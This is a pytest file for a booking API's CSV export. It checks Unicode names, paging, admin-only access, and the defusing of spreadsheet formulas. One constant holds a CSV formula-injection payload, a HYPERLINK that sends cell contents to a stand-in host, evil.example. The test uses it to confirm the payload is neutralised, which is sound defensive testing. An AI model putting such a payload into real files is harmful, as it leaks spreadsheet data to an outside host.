"""A session's bookings as CSV (issue 12): read back with the csv module, names with commas,
quotes and other scripts intact, formulas defused; admins only, the organisation's only."""

import csv
import io
import uuid
from datetime import datetime
from typing import Any

import httpx
import pytest

from api.routes import session_exports
from devstack.pay import pay
from documents.bookings_csv import COLUMNS
from tests.api.conftest import ADMIN
from tests.conftest import OTHER_ADMIN_KEY, SessionFactory
from tests.helpers.api_bookings import booking_body, wait_for_status
from tests.helpers.stack import Stack

AWKWARD = 'Zoë "Zed" Ærøskøbing, 李小龙 / Ольга / محمد'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


async def book(
    api: httpx.AsyncClient, session_id: str, name: str, quantity: int = 1, **extra: Any
) -> dict[str, Any]:
    customer = {"name": name, "email": f"{uuid.uuid4().hex[:8]}@example.com"}
    response = await api.post(
        "/v1/bookings",
        json=booking_body(session_id, quantity, customer=customer, **extra),
        headers={"Idempotency-Key": str(uuid.uuid4())},
    )
    assert response.status_code == 201, response.text
    return response.json()  # type: ignore[no-any-return]


def read_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # so Excel reads UTF-8
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


async def test_the_csv_reads_back_with_every_name_intact_and_formulas_defused(stack: Stack) -> None:
    session_id = await stack.new_session(capacity=20)
    awkward = await book(
        stack.api,
        session_id,
        AWKWARD,
        5,
        attendees=[{"name": '+44 1234, "the" guest'}, {"name": "Ольга"}],
    )
    assert await pay(stack.stripe_client, awkward["payment"]["payment_intent_id"]) == "succeeded"
    paid = await wait_for_status(stack.api, awkward["id"], "CONFIRMED")
    formula = await book(stack.api, session_id, FORMULA)
    minus = await book(stack.api, session_id, "-2+3")
    at_sign = await book(stack.api, session_id, "@SUM(1)")

    response = await stack.api.get(f"/v1/sessions/{session_id}/bookings.csv", headers=ADMIN)
    rows = read_csv(response)
    assert "attachment" in response.headers["content-disposition"]

    assert [row["booking_id"] for row in rows] == [
        b["id"] for b in (awkward, formula, minus, at_sign)
    ]
    first = rows[0]
    assert first["customer_name"] == AWKWARD
    assert first["customer_email"] == paid["customer"]["email"]
    assert first["attendees"] == '\'+44 1234, "the" guest; Ольга'
    assert first["reference"] == paid["reference"] and first["status"] == "CONFIRMED"
    assert int(first["quantity"]) == 5 and first["seats"] == " ".join(paid["seats"])
    amounts = [int(first[k]) for k in ("amount_subtotal", "discount", "amount_total")]
    assert amounts == [paid["amount_subtotal"], paid["discount"], paid["amount_total"]]
    assert first["currency"] == "GBP"
    confirmed = datetime.fromisoformat(first["confirmed_at"])
    assert confirmed.utcoffset() is not None
    assert confirmed == datetime.fromisoformat(paid["confirmed_at"])
    assert datetime.fromisoformat(first["created_at"]) == datetime.fromisoformat(paid["created_at"])
    # A spreadsheet shows these as text: the cell starts with an apostrophe.
    assert [row["customer_name"] for row in rows[1:]] == ["'" + FORMULA, "'-2+3", "'@SUM(1)"]
    assert rows[1]["reference"] == "" and rows[1]["confirmed_at"] == ""
    assert rows[1]["status"] == "PENDING_PAYMENT"


async def test_the_csv_streams_every_page_of_a_large_session(
    api: httpx.AsyncClient, new_session: SessionFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """More bookings than one read of the export holds: every one, once, in order."""
    monkeypatch.setattr(session_exports, "PAGE_SIZE", 2)
    session_id = await new_session(capacity=10)
    made = [(await book(api, session_id, f"Guest {n}"))["id"] for n in range(5)]
    rows = read_csv(await api.get(f"/v1/sessions/{session_id}/bookings.csv", headers=ADMIN))
    assert [row["booking_id"] for row in rows] == made


async def test_an_empty_session_gives_the_header_only(
    api: httpx.AsyncClient, new_session: SessionFactory
) -> None:
    session_id = await new_session()
    assert read_csv(await api.get(f"/v1/sessions/{session_id}/bookings.csv", headers=ADMIN)) == []


async def test_only_the_organisations_admins_get_it(
    api: httpx.AsyncClient, new_session: SessionFactory
) -> None:
    session_id = await new_session()
    path = f"/v1/sessions/{session_id}/bookings.csv"
    as_client = await api.get(path)
    assert as_client.status_code == 403
    assert as_client.headers["content-type"] == "application/problem+json"
    missing = await api.get(f"/v1/sessions/{uuid.uuid4()}/bookings.csv", headers=ADMIN)
    other = await api.get(path, headers={"Authorization": f"Bearer {OTHER_ADMIN_KEY}"})
    assert other.status_code == missing.status_code == 404
    assert other.json()["type"] == missing.json()["type"]
    assert other.json()["type"].endswith(":session-not-found")
